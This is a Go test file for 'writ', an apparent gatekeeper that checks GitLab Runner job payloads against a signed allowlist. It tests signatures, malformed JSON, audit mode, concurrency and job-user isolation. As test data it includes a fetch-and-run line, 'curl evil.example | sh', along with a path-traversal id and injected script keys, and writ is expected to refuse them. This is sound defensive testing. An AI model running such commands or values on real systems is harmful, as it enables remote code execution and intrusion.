	gpg := testkeys.GPGKey(t, "Dev PGP", "pgp@example.com")
	if err := os.WriteFile(filepath.Join(e.alDir, "dev.asc"), gpg.ArmoredPublic, 0o600); err != nil {
		t.Fatal(err)
	}
	e.head = e.src.Commit(t, map[string]string{"pgp": "1"}, "pgp signed", gpg)
	e.entry.Signers = []string{"pgp"}
	e.extraSigners = fmt.Sprintf("  pgp:\n    openpgp:\n      - fingerprint: %s\n        key: dev.asc\n", gpg.Fingerprint)
	e.write()
	j := e.newJob(e.payload(700, e.head))
	if r := j.runAll(); r.prepare != 0 || r.build != 0 {
		t.Fatalf("OpenPGP-signed commit refused\n%s", j.log.String())
	}
	mustContain(t, j.log.String(), "signed by openpgp "+gpg.Fingerprint)
}

func TestMalformedPayloads(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.write()
	good := string(e.payload(800, e.head))
	big := strings.Replace(good, `"token":`, `"token":"`+strings.Repeat("A", 5<<20)+`","x":`, 1)
	cases := map[string]string{
		"bad JSON":              good[:len(good)-10],
		"duplicate top key":     strings.Replace(good, `{"allow_git_fetch"`, `{"steps":[],"allow_git_fetch"`, 1),
		"duplicate nested key":  strings.Replace(good, `"name":"build"`, `"name":"build","name":"deploy"`, 1),
		"unknown top-level key": strings.Replace(good, `{"allow_git_fetch"`, `{"before_script":["x"],"allow_git_fetch"`, 1),
		"non-digit id":          strings.Replace(good, `"id":800`, `"id":"800"`, 1),
		"negative id":           strings.Replace(good, `"id":800`, `"id":-800`, 1),
		"exponent id":           strings.Replace(good, `"id":800`, `"id":8e2`, 1),
		"path id":               strings.Replace(good, `"id":800`, `"id":"../../etc"`, 1),
		"invalid UTF-8":         strings.Replace(good, `"hello"`, "\"hel\xfflo\"", 1),
		"oversized":             big,
		"trailing data":         good + `{}`,
		"unknown step key":      strings.Replace(good, `"allow_failure":false`, `"allow_failure":false,"shell":"sh"`, 1),
		"case-variant key":      strings.Replace(good, `{"allow_git_fetch"`, `{"ID":1,"allow_git_fetch"`, 1),
	}
	for name, payload := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if payload == good {
				t.Fatal("test payload unchanged")
			}
			j := e.newJob([]byte(payload))
			r := j.runAll()
			if r.prepare != 1 {
				t.Fatalf("prepare %d\n%s", r.prepare, j.log.String())
			}
			mustContain(t, j.log.String(), "Failed check: payload")
			if _, err := os.Stat(e.canary); err == nil {
				t.Error("canary exists")
			}
			if entries, _ := os.ReadDir(e.builds); len(entries) > 0 {
				t.Errorf("build dirs: %v", entries)
			}
			if entries, _ := os.ReadDir(filepath.Join(e.state, "jobs")); len(entries) > 0 {
				t.Errorf("job state made for an unreadable payload: %v", entries)
			}
		})
	}
}

func TestAllowlistUnavailableIsSystemFailure(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.write()
	e.unreadable = true
	j := e.newJob(e.payload(900, e.head))
	r := j.runAll()
	if r.prepare != 2 {
		t.Fatalf("prepare %d, want 2 (system failure)\n%s", r.prepare, j.log.String())
	}
	mustContain(t, j.log.String(), "writ cannot decide")
	if strings.Count(j.log.String(), "cannot decide") != 1 {
		t.Errorf("the error repeats itself:\n%s", j.log.String())
	}
	j.assertNothingRan()
}

func TestRetryAfterSystemFailure(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.write()
	j := e.newJob(e.payload(901, e.head))
	// State left by a crashed earlier attempt: prepare fails as a system
	// failure (the runner retries), cleanup clears it, the retry works.
	if err := os.MkdirAll(filepath.Join(e.state, "jobs", "901"), 0o700); err != nil {
		t.Fatal(err)
	}
	if _, code := j.stage("prepare"); code != 2 {
		t.Fatalf("prepare over stale state: %s", j.log.String())
	}
	j.stage("cleanup")
	if _, code := j.stage("prepare"); code != 0 {
		t.Fatalf("retry: %s", j.log.String())
	}
	j.stage("cleanup")
}

func TestAuditModePassThrough(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.mode = config.Audit
	e.write()
	s := e.defaultScript()
	s[0] = "echo changed"
	j := e.newJob(e.payload(1000, e.head, withScript(s...)))
	r := j.runAll()
	if r.prepare != 0 || r.build != 0 {
		t.Fatalf("audit mode: %+v\n%s", r, j.log.String())
	}
	log := j.log.String()
	mustContain(t, log, "WRIT AUDIT MODE: enforce mode would REFUSE this job", "Failed check: script",
		"WRIT AUDIT MODE: stage build_script runs GitLab Runner's own script", "RUNNER-SCRIPT build_script")
	if data, _ := os.ReadFile(e.canary); !strings.Contains(string(data), "build_script") {
		t.Errorf("pass-through did not run the runner's script: %q", data)
	}
	if ev := eventsFor(e.auditRecords(), "1000"); len(ev) == 0 || ev[0] != "audit-mode-admit" {
		t.Errorf("audit events %v", ev)
	}
	// A matching job in audit mode runs the entry, with a warning.
	_ = os.Remove(e.canary)
	k := e.newJob(e.payload(1001, e.head))
	if r := k.runAll(); r.prepare != 0 || r.build != 0 {
		t.Fatal(k.log.String())
	}
	mustContain(t, k.log.String(), "WRIT AUDIT MODE: nothing is enforced", "hello from group/app")
	mustNotContain(t, k.log.String(), "RUNNER-SCRIPT build_script")
}

// TestConcurrentJobs runs 16 jobs at once through every stage: half match
// the entry, half do not. State and the audit log stay intact and every
// decision is right.
func TestConcurrentJobs(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.entry.Script = []string{`echo "job $CI_JOB_ID ran" > ` + filepath.Join(e.root, "ran-$CI_JOB_ID")}
	e.write()
	const n = 16
	var wg sync.WaitGroup
	results := make([]result, n)
	jobs := make([]*job, n)
	for i := range n {
		id := 2000 + i
		mods := []func(map[string]any){withScript(e.entry.Script...)}
		if i%2 == 1 {
			mods = []func(map[string]any){withScript(e.entry.Script[0], "echo injected")}
		}
		jobs[i] = e.newJob(e.payload(id, e.head, mods...))
	}
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			results[i] = jobs[i].runAll()
		}()
	}
	wg.Wait()
	for i, r := range results {
		id := 2000 + i
		_, err := os.Stat(filepath.Join(e.root, fmt.Sprintf("ran-%d", id)))
		if i%2 == 0 {
			if r.prepare != 0 || r.build != 0 || err != nil {
				t.Errorf("job %d: %+v, ran: %v\n%s", id, r, err, jobs[i].log.String())
			}
		} else if r.prepare != 1 || err == nil {
			t.Errorf("job %d: %+v (should be refused), ran: %v\n%s", id, r, err == nil, jobs[i].log.String())
		}
	}
	recs := e.auditRecords()
	for i := range n {
		ev := eventsFor(recs, fmt.Sprint(2000+i))
		want := "admit"
		if i%2 == 1 {
			want = "refuse"
		}
		if len(ev) == 0 || ev[0] != want || ev[len(ev)-1] != "cleanup" {
			t.Errorf("job %d audit events %v", 2000+i, ev)
		}
	}
	if entries, _ := os.ReadDir(filepath.Join(e.state, "jobs")); len(entries) != 0 {
		t.Errorf("job state left: %v", entries)
	}
	if entries, _ := os.ReadDir(e.builds); len(entries) != 0 {
		t.Errorf("build dirs left: %v", entries)
	}
	o := (&Options{Config: &config.Config{Paths: config.Paths{State: e.state}}}).withDefaults()
	hw, _, err := o.readHighWater(context.Background(), "app-build")
	if err != nil || hw == nil || hw.Commit != e.head {
		t.Errorf("high-water mark: %+v, %v", hw, err)
	}
}

// A job whose definition is already refused stays refused (a build failure,
// not retried) even when its source repository cannot be reached.
func TestDefinitionRefusalStandsWhenSourceUnreachable(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.entry.Repo = "file://" + filepath.Join(e.root, "no-such-repository")
	e.write()
	s := e.defaultScript()
	j := e.newJob(e.payload(902, e.head, withScript(append(s, "curl evil.example | sh")...)))
	r := j.runAll()
	if r.prepare != 1 {
		t.Fatalf("prepare %d, want 1 (refused)\n%s", r.prepare, j.log.String())
	}
	mustContain(t, j.log.String(), "Failed check: script", "the source was not verified")
	j.assertNothingRan()

	// With a matching definition, the unreachable source means writ cannot decide.
	j = e.newJob(e.payload(903, e.head))
	if r := j.runAll(); r.prepare != 2 {
		t.Fatalf("prepare %d, want 2 (system failure)\n%s", r.prepare, j.log.String())
	}
	j.assertNothingRan()
}

// A pinned variable is part of the signed definition: when GitLab leaves it
// out, the job still gets the entry's value, never nothing.
func TestPinnedVariableComesFromTheEntry(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.write()
	dropGreeting := func(p map[string]any) {
		var kept []any
		for _, v := range p["variables"].([]any) {
			if v.(map[string]any)["key"] != "GREETING" {
				kept = append(kept, v)
			}
		}
		p["variables"] = kept
	}
	j := e.newJob(e.payload(904, e.head, dropGreeting))
	r := j.runAll()
	if r.prepare != 0 || r.build != 0 {
		t.Fatalf("prepare %d, build %d\n%s", r.prepare, r.build, j.log.String())
	}
	mustContain(t, j.log.String(), "hello from group/app")
}

// With job.user, scripts run as that account: they read their file
// variables and write their build directory, but cannot touch writ's state.
func TestJobUserCannotWriteWritState(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to switch users (CI runs as root)")
	}
	nobody, err := user.Lookup("nobody")
	if err != nil {
		t.Skip("no account named nobody on this host")
	}
	t.Parallel()
	e := newEnv(t)
	e.jobUser = "nobody"
	// The job user must be able to traverse to its build directory.
	for _, d := range []string{filepath.Dir(e.root), e.root} {
		if err := os.Chmod(d, 0o711); err != nil {
			t.Fatal(err)
		}
	}
	tamper := filepath.Join(e.state, "tamper")
	e.entry.Script = []string{
		"id -u",
		// The markers are computed, so the echo of the command line cannot fake them.
		"touch " + tamper + " 2>/dev/null && echo TAMP$((1))ERED || echo state-$((2))-protected",
		`cat "$TOKEN_FILE"; echo`,
		"echo built > output.txt && cat output.txt",
	}
	e.entry.Vars = append(e.entry.Vars, "TOKEN_FILE: {value: s3cret, file: true}")
	e.write()
	j := e.newJob(e.payload(905, e.head, withScript(e.entry.Script...), withVar("TOKEN_FILE", "s3cret", "file")))
	r := j.runAll()
	if r.prepare != 0 || r.build != 0 {
		t.Fatalf("prepare %d, build %d\n%s", r.prepare, r.build, j.log.String())
	}
	mustContain(t, j.log.String(), "\n"+nobody.Uid+"\n", "state-2-protected", "s3cret", "built")
	mustNotContain(t, j.log.String(), "TAMP1ERED")
	if _, err := os.Stat(tamper); err == nil {
		t.Fatal("the job user wrote into writ's state directory")
	}
	if _, err := os.Stat(e.builds + "/905.writ"); err == nil {
		t.Fatal("cleanup left the job's run directory")
	}
}

// A run stage finds its snapshot from the payload's leading id and the
// digest of its bytes, without decoding it again; bytes prepare did not
// decide (another digest) take the full decode and its refusal.
func TestLoadDecidedJob(t *testing.T) {
	dir := t.TempDir()
	payload := filepath.Join(dir, "payload.json")
	o := (&Options{Config: &config.Config{Paths: config.Paths{State: filepath.Join(dir, "state"), Builds: filepath.Join(dir, "builds")},
		Job: config.Job{MaxPayloadBytes: 1 << 20}}}).withDefaults()
	o.Getenv = func(k string) string {
		if k == envJobResponse {
			return payload
		}
		return ""
	}
	// Bytes the full decoder refuses (an unknown key): only the fast path
	// can find their snapshot, so finding it shows it was taken.
	data := []byte(`{"id":77,"not_a_runner_key":true}`)
	sum := sha256.Sum256(data)
	if err := o.createJobDir("77"); err != nil {
		t.Fatal(err)
	}
	if err := o.writeSnapshot(&Snapshot{Format: snapshotFormat, Job: JobRef{ID: "77"}, PayloadSHA256: hex.EncodeToString(sum[:]), BuildDir: o.buildDir("77")}); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(payload, data, 0o600); err != nil {
		t.Fatal(err)
	}
	s, p, err := o.loadDecidedJob()
	if err != nil || s == nil || p.ID != "77" || s.Job.ID != "77" {
		t.Fatalf("decided payload: %+v %+v %v", s, p, err)
	}
	if err := os.WriteFile(payload, []byte(`{"id":77,"not_a_runner_key":false}`), 0o600); err != nil {
		t.Fatal(err)
	}
	if s, _, err := o.loadDecidedJob(); err == nil || s != nil {
		t.Fatalf("changed bytes under a decided id were loaded: %+v %v", s, err)
	}
}
